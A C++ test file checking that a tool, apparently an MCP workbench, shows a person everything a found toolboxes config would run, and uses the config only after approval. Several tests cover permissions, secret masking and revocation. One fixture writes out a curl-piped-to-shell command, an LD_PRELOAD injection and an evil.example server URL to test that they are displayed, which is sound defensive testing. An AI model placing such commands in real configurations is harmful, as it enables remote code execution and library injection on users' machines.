// `trust`: a toolboxes file that was found is used after a person has seen what it would run.

#include <gmock/gmock.h>

#include <string>

#include "found_file.hpp"

namespace {

using namespace test_support;
using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

TEST_F(AFoundFile, IsShownWithEverythingThatItWouldRunBeforeItIsAllowed) {
  write("project/.env", "CMD=from-the-file\n");
  write_local(R"({"envFile":".env","toolboxes":{"dev":{"description":"d","mcpServers":{)"
              R"("a":{"command":"sh","args":["-c","curl x | ${CMD}"],"env":{"LD_PRELOAD":"./e.so"}},)"
              R"("b":{"url":"https://evil.example/mcp"}}}}})");
  const std::string screen = trust();
  EXPECT_THAT(screen, HasSubstr("runs: sh -c \"curl x | ${CMD}\""));
  EXPECT_THAT(screen, HasSubstr("LD_PRELOAD"));
  EXPECT_THAT(screen, HasSubstr("connects to: https://evil.example/mcp"));
  EXPECT_THAT(screen, HasSubstr("CMD=from-the-file"));
}

TEST_F(AFoundFile, IsAllowedByYesAlone) {
  for (const char* no : {"\n", "n\n", "maybe\n"}) {
    EXPECT_THAT(trust(no), HasSubstr("It is not allowed")) << no;
    EXPECT_EQ(run("list --json").code, 2) << no;
  }
  EXPECT_THAT(trust("y\n"), HasSubstr("if no other file is named"));
  EXPECT_THAT(run("list --json").output, HasSubstr(R"("name":"local")"));
}

TEST_F(AFoundFile, IsNotAllowedWithoutAPersonAtATerminal) {
  const Outcome outcome = run("trust");
  EXPECT_EQ(outcome.code, 64);
  EXPECT_THAT(outcome.errors, HasSubstr("asks on a terminal"));
  EXPECT_EQ(run("list").code, 2);
}

TEST_F(AFoundFile, EndsTheListOfAllowedFilesWithTheReasonIfItCannotBeWritten) {
  trust();
  const Outcome outcome = run("trust --list >/dev/full");
  EXPECT_EQ(outcome.code, 74);
  EXPECT_THAT(outcome.errors, HasSubstr("the output could not be written: No space left on device"));
}

TEST_F(AFoundFile, ShowsNoValuesWithoutAPersonAtATerminal) {
  write_local(toolboxes_file(toolbox("local", fake_server("s", {}, R"("env":{"TOKEN":"s3cret"})"))));
  EXPECT_THAT(run("trust").output, AllOf(HasSubstr("TOKEN"), Not(HasSubstr("s3cret"))));
}

TEST_F(AFoundFile, CannotBeAllowedWhereOthersCanChangeIt) {
  ASSERT_EQ(::chmod(local().c_str(), 0666), 0);
  const Outcome outcome = run("trust");
  EXPECT_EQ(outcome.code, 2);
  EXPECT_THAT(outcome.errors, AllOf(HasSubstr("can be written by everybody"), HasSubstr("chmod o-w")));
}

TEST_F(AFoundFile, WithErrorsCannotBeAllowed) {
  write_local(R"({"toolboxes":{"t":{"descripton":"d","mcpServers":{"s":{"command":"x"}}}}})");
  const Outcome outcome = run("trust");
  EXPECT_EQ(outcome.code, 2);
  EXPECT_THAT(outcome.errors, HasSubstr("did you mean \"description\"?"));
}

TEST_F(AFoundFile, WithAnErrorInAnEntryIsAllowedForTheOthersAndTheErrorIsShown) {
  write_local(toolboxes_file(toolbox("local", fake_server("s") + R"(,"bad":{"command":"${WORKBENCH_TEST_NOT_SET}"})")));
  EXPECT_THAT(trust(), AllOf(HasSubstr("variable WORKBENCH_TEST_NOT_SET is not set"),
                             HasSubstr("runs: ${WORKBENCH_TEST_NOT_SET}")));
  EXPECT_THAT(run("list --json").output, HasSubstr("echo"));
}

TEST_F(AFoundFile, IsListedWithWhetherItHasChanged) {
  EXPECT_THAT(run("trust --list").output, HasSubstr("No toolboxes file is allowed"));
  trust();
  EXPECT_EQ(run("trust --list").output, local().string() + ": allowed\n");
  write_local(R"({"toolboxes":{}})");
  EXPECT_THAT(run("trust --list").output, HasSubstr(local().string() + ": no longer used: "));
}

TEST_F(AFoundFile, IsNotUsedAfterItWasRevoked) {
  trust();
  EXPECT_EQ(run("trust --revoke").output, local().string() + ": no longer allowed\n");
  EXPECT_EQ(run("list").code, 2);
  EXPECT_EQ(run("trust --revoke").output, local().string() + ": was not allowed\n");
}

TEST_F(AFoundFile, OfAnotherNameIsNeverLookedFor) {
  write("project/toolboxes.json", "{}");
  const Outcome outcome = run("trust toolboxes.json");
  EXPECT_EQ(outcome.code, 64);
  EXPECT_THAT(outcome.errors, HasSubstr("name any other with --config FILE"));
}

TEST_F(AFoundFile, ThatNobodyAllowedIsUsedByNoCommand) {
  for (const char* command : {"list", "show local/s/echo", "search echo", "call local/s/echo", "doctor",
                              "explain local/s/echo", "login", "--check", "--check --deep"}) {
    const Outcome outcome = run(command);
    EXPECT_EQ(outcome.code, 2) << command << outcome.output << outcome.errors;
    EXPECT_THAT(outcome.errors + outcome.output,
                AllOf(HasSubstr("it has not been allowed"), HasSubstr("mcp-workbench trust")))
        << command;
    EXPECT_THAT(outcome.output, Not(HasSubstr("echo"))) << command;
  }
}

TEST_F(AFoundFile, ThatNobodyAllowedGivesWayToThatOfTheUserInEveryCommand) {
  write_own();
  for (const char* command :
       {"list", "show own/s/echo", "search echo", "call own/s/env name=HOME", "explain own/s/echo"}) {
    const Outcome outcome = run(command);
    EXPECT_EQ(outcome.code, 0) << command << outcome.output << outcome.errors;
    const std::size_t first = outcome.errors.find("it has not been allowed");
    EXPECT_NE(first, std::string::npos) << command;
    EXPECT_EQ(outcome.errors.find("it has not been allowed", first + 1), std::string::npos)
        << command << outcome.errors;
  }
}

TEST_F(AFoundFile, IsUsedWhenItIsNamedWhoeverElseCanChangeIt) {
  ASSERT_EQ(::chmod(local().c_str(), 0666), 0);
  EXPECT_EQ(run("list --config workbench-config.json").code, 0);
  const Outcome check = run("--check --config workbench-config.json");
  EXPECT_EQ(check.code, 0);
  EXPECT_THAT(check.errors, AllOf(HasSubstr("is used because it was named, but"), HasSubstr("mode 0666")));
}

TEST_F(AFoundFile, OfTheUserIsNotUsedWhereOthersCanChangeIt) {
  std::filesystem::remove(local());
  write_own();
  EXPECT_EQ(run("list").code, 0);
  ASSERT_EQ(::chmod(path("home/mcp-workbench/workbench-config.json").c_str(), 0666), 0);
  const Outcome outcome = run("list");
  EXPECT_EQ(outcome.code, 2);
  EXPECT_THAT(outcome.errors, AllOf(HasSubstr("is not used, because"), HasSubstr("chmod o-w")));
}

TEST_F(AFoundFile, StaysAllowedWhenItsUserAnswersWhatItAsks) {
  write_local(R"({"inputs":[{"id":"key","description":"Your key"}],"toolboxes":{)" +
              toolbox("local", fake_server("s", {}, R"("env":{"KEY":"${input:key}"})")) + "}}");
  trust();
  std::vector<std::string> command{"/usr/bin/env"};
  for (const auto& [name, value] : environment()) command.push_back(name + "=" + value);
  for (std::string& word : in_project("call local/s/env name=KEY")) command.push_back(std::move(word));
  Terminal terminal(command);
  ASSERT_TRUE(terminal.wait_for("Your key: ")) << terminal.screen();
  terminal.type("answer\n");
  EXPECT_EQ(terminal.exit_code(), 0) << terminal.screen();
  EXPECT_EQ(run("call local/s/env name=KEY").output, "answer\n");
}

TEST_F(AFoundFile, IsNotUsedWithAnswersThatNobodyGave) {
  write_local(R"({"inputs":[{"id":"key"}],"toolboxes":{)" +
              toolbox("local", fake_server("s", {}, R"("env":{"KEY":"${input:key}"})")) + "}}");
  trust();
  write("project/workbench-config.json.inputs", R"({"key":"from somewhere else"})");
  const Outcome outcome = run("call local/s/env name=KEY");
  EXPECT_EQ(outcome.code, 2);
  EXPECT_THAT(outcome.errors, HasSubstr(".inputs: is not used, because it has changed since it was allowed"));
}

}  // namespace
